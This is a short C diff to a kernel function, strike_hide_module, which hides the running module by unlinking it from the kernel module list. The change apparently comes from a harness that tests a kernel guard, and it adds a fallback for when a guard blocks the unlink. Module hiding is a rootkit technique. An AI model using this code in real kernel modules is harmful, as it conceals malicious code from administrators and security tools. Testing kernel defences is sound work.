@@ -160,9 +160,14 @@ static int strike_hide_module(u64 argument, u64 *answer)
     mutex_lock(lock);
     place = THIS_MODULE->list.prev;
     list_del_rcu(&THIS_MODULE->list);
+    /* A guard may have discarded the stores to the neighbours: then we are still in the list, and to enter it again would break it. */
+    if (READ_ONCE(place->next) == &THIS_MODULE->list) {
+        THIS_MODULE->list.prev = place;
+        place = NULL;
+    }
     mutex_unlock(lock);
     synchronize_rcu();
-    return 0;
+    return place ? 0 : -EPERM;
 }
 
 static int undo_hide_module(void)
